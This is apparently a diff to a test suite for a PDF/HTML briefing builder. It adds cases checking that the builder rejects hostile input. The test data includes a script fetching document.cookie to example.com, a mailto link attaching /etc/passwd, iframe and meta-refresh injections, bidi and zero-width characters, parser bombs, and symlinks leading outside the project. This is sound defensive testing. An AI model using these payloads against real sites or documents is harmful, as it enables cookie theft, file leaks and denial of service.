@@ -966,7 +966,7 @@ CASES += [
         BUILD, 1,
         [NOT_BUILT, FAILED_LINE, FAILED + "Failed to load image at 'file://{root}/styles/mark.svg': "
          + REFUSED.format(url="file://{root}/styles/mark.svg",
-                          why="an SVG image may not declare entities or @import stylesheets")],
+                          why="an SVG image may not declare entities or hold a stylesheet")],
     ),
     Case(
         "svg-image-declares-entities",
@@ -976,7 +976,194 @@ CASES += [
         BUILD, 1,
         [NOT_BUILT, FAILED_LINE, FAILED + "Failed to load image at 'file://{root}/styles/mark.svg': "
          + REFUSED.format(url="file://{root}/styles/mark.svg",
-                          why="an SVG image may not declare entities or @import stylesheets")],
+                          why="an SVG image may not declare entities or hold a stylesheet")],
+    ),
+]
+
+
+def moved_outside(folder: str) -> Setup:
+    """Move an output folder outside the project and leave a symlink to it in its place."""
+
+    def setup(ctx: Ctx) -> None:
+        path = ctx.root / folder
+        target = ctx.outside / path.name
+        if path.exists():
+            shutil.move(path, target)
+        else:
+            target.mkdir()
+        path.symlink_to(target)
+
+    return setup
+
+
+def catalog_header(old: str, new: str) -> Setup:
+    """Give the project a Spanish catalog whose header has ``new`` for ``old``."""
+
+    def setup(ctx: Ctx) -> None:
+        text = (REPO / "locale" / "es" / "LC_MESSAGES" / "messages.po").read_text(encoding="utf-8")
+        path = ctx.root / FILES["es-po"]
+        path.parent.mkdir(parents=True)
+        path.write_text(text.replace(old, new, 1), encoding="utf-8")
+
+    return setup
+
+
+ACTIVE = "the page holds a <{}> element: a briefing runs and embeds nothing"
+CASES += [
+    # The HTML beside the PDF (which the preview serves) runs nothing either.
+    Case("template-script-element", template("<script>fetch('https://example.com/?'+document.cookie)</script>"),
+         BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + ACTIVE.format("script")]),
+    Case("template-iframe", template('<iframe src="https://example.com/"></iframe>'),
+         BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + ACTIVE.format("iframe")]),
+    Case("template-object", template('<object data="styles/x.svg"></object>'),
+         BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + ACTIVE.format("object")]),
+    Case("template-event-handler", template('<p onclick="alert(1)">x</p>'),
+         BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + "the page holds an event handler (onclick= on <p>): "
+                    "a briefing runs nothing"]),
+    Case("template-meta-refresh", template('<meta http-equiv="refresh" content="0;url=https://example.com/">'),
+         BUILD, 1,
+         [NOT_BUILT, FAILED_LINE, FAILED + "the page holds <meta http-equiv='refresh'>: not in a briefing"]),
+    Case("template-mailto-with-attach",
+         template('<a href="mailto:desk@example.org?attach=/etc/passwd&amp;body=hi">x</a>'),
+         BUILD, 1,
+         [NOT_BUILT, FAILED_LINE, FAILED + LINK.format("mailto:desk@example.org?attach=/etc/passwd&body=hi")]),
+    Case(
+        "string-mailto-with-attach",
+        edit("en", POINT, '      - "Write to [the desk](mailto:desk@example.org?attach=/etc/passwd)."\n' + POINT),
+        BUILD, 1,
+        [f"error: {{en}}:{{line}}: {FIELD}: the mailto: link 'mailto:desk@example.org?attach=/etc/passwd' "
+         "may fill in only bcc, body, cc, subject, to", ONE],
+        at=("en", "Write to"),
+    ),
+    # Attachments: a PDF that would carry a file is not written.
+    Case(
+        "template-attaches-a-project-style-file",
+        both(write("styles/notes.txt", "notes\n"), template('<link rel="attachment" href="styles/notes.txt">')),
+        BUILD, 1,
+        [NOT_BUILT, FAILED_LINE, FAILED + "the PDF would hold an attached file (/EmbeddedFiles); "
+         "a briefing has none, so it was not written"],
+    ),
+    Case(
+        "template-attachment-annotation",
+        both(write("styles/invoice.html", "<p>invoice</p>\n"),
+             template('<a rel="attachment" href="styles/invoice.html" download="invoice.pdf.html">Open</a>')),
+        BUILD, 1,
+        [NOT_BUILT, FAILED_LINE, FAILED + "the PDF would hold a /FileAttachment annotation; only links are allowed, "
+         "so it was not written"],
+    ),
+    # Text a stylesheet puts on the page.
+    Case(
+        "css-content-with-a-bidi-override",
+        style('h2::after { content: " \\202E 300 to 411"; }'),
+        BUILD, 1,
+        [NOT_BUILT, FAILED_LINE, re.compile(re.escape(FAILED + "the page holds U+202E, which prints as nothing or "
+                                                      "reorders the text around it (in ") + ".*" + re.escape(
+            "); a stylesheet put it there"))],
+    ),
+    Case(
+        "css-nested-too-deeply",
+        style("x { color: " + "(" * 50000 + ")" * 50000 + " }"),
+        BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + "{root}/{modern}: the stylesheet is nested too deeply to read"],
+    ),
+    # Outputs stay in the output folder.
+    Case(
+        "output-folder-is-a-symlink-outside",
+        moved_outside("dist/china-lac-2021/es"),
+        ES_BUILD, 1,
+        [NOT_BUILT, ES_FAILED_LINE, ES_FAILED + "cannot write its outputs: dist/china-lac-2021/es: "
+         "leads outside dist/ (to {outside}/es); refused"],
+    ),
+    Case(
+        "dist-is-a-symlink-outside",
+        moved_outside("dist"),
+        BUILD, 1,
+        ["error: dist/ leads outside the project (to {outside}/dist); refused: remove the link, "
+         "or name the output folder with --out"],
+    ),
+    Case(
+        "pdf-path-taken-by-a-folder",
+        lambda ctx: (ctx.root / "dist" / "china-lac-2021" / "es" / "sheet-modern-a4.pdf").mkdir(parents=True),
+        ES_BUILD, 1,
+        [NOT_BUILT, ES_FAILED_LINE,
+         ES_FAILED + "cannot write its outputs: dist/china-lac-2021/es/sheet-modern-a4.pdf: "
+         "a folder stands where the file must be"],
+    ),
+    # Catalogs that would make Babel run away, fail or format.
+    Case(
+        "catalog-plural-forms-bomb",
+        catalog_header("nplurals=3", "nplurals=300000000"),
+        ["check"], 1,
+        ["error: {es-po}:{line}: Plural-Forms: nplurals=300000000: a language has 1 to 6 plural forms", ONE],
+        at=("es-po", "nplurals=300000000"),
+    ),
+    Case(
+        "catalog-charset-unknown",
+        catalog_header("charset=utf-8", "charset=nonexistent"),
+        ["check"], 1,
+        ["error: {es-po}:{line}: Content-Type: charset nonexistent: a catalog must be UTF-8", ONE],
+        at=("es-po", "charset=nonexistent"),
+    ),
+    Case(
+        "catalog-python-format",
+        catalog_entry("Key figures", "Cifras %(evil)s"),
+        ["check"], 1,
+        ["error: {es-po}:{line}: Key figures: '%(evil)s' is a Python format the label does not have; "
+         "it would print as written", ONE],
+        at=("es-po", 'msgid "Key figures"'),
+    ),
+    # Characters that print as nothing, where they would mislead.
+    Case(
+        "url-with-a-zero-width-space",
+        edit("spec", "https://cpifa.org/", "https://cpifa\u200b.org/"),
+        BUILD, 1,
+        [re.compile(r"error: \{spec\}:\d+: source\.url: 'https://cpifa\\u200b\.org/.*' is not a valid URL: "
+                    r"write an http:// or https:// address in printable ASCII \(percent-encode the rest\)"), ONE],
+    ),
+    Case(
+        "string-invisible-operator",
+        edit("en", POINT, '      - "from 411\u2062300"\n' + POINT),
+        BUILD, 1,
+        [f"error: {{en}}:{{line}}: {FIELD}: the invisible character U+2062 is not allowed: it prints as nothing", ONE],
+        at=("en", "from 411"),
+    ),
+    # Template errors at their file and line.
+    Case(
+        "template-division-by-zero",
+        write("sheet", '{% extends "!base/layouts/sheet.html.j2" %}{% block body %}\n'
+              "{{ 1 / 0 }}{{ super() }}{% endblock %}"),
+        BUILD, 1,
+        [NOT_BUILT, FAILED_LINE,
+         FAILED + "templates/layouts/sheet.html.j2:2: template: ZeroDivisionError: division by zero"],
+    ),
+    Case(
+        "template-format-filter-width",
+        template('{{ ("%0999999999d" | format(1)) | length }}'),
+        BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + "template: a field 999,999,999 characters wide; at most 10,000"],
+    ),
+    Case(
+        "check-template-that-is-a-fifo",
+        lambda ctx: (ctx.root / "templates" / "partials").mkdir(parents=True)
+        or os.mkfifo(ctx.root / "templates" / "partials" / "pipe.html.j2"),
+        ["check"], 1,
+        ["error: partials/pipe.html.j2:1: {root}/templates/partials/pipe.html.j2 is not a regular file; not read", ONE],
+    ),
+    Case(
+        "check-template-that-is-a-link-to-dev-zero",
+        lambda ctx: (ctx.root / "templates" / "partials").mkdir(parents=True)
+        or (ctx.root / "templates" / "partials" / "zero.html.j2").symlink_to("/dev/zero"),
+        ["check"], 1,
+        ["error: partials/zero.html.j2:1: {root}/templates/partials/zero.html.j2 leads outside the template folders; "
+         "refused", ONE],
+    ),
+    Case(
+        "svg-image-imports-with-a-css-escape",
+        both(write("styles/mark.svg", '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8">'
+                   "<style>@\\69mport url(base.css);</style><rect width='8' height='8'/></svg>"),
+             template('<img alt="mark" src="styles/mark.svg">')),
+        BUILD, 1,
+        [NOT_BUILT, FAILED_LINE, FAILED + "Failed to load image at 'file://{root}/styles/mark.svg': "
+         + REFUSED.format(url="file://{root}/styles/mark.svg",
+                          why="an SVG image may not declare entities or hold a stylesheet")],
     ),
 ]
 
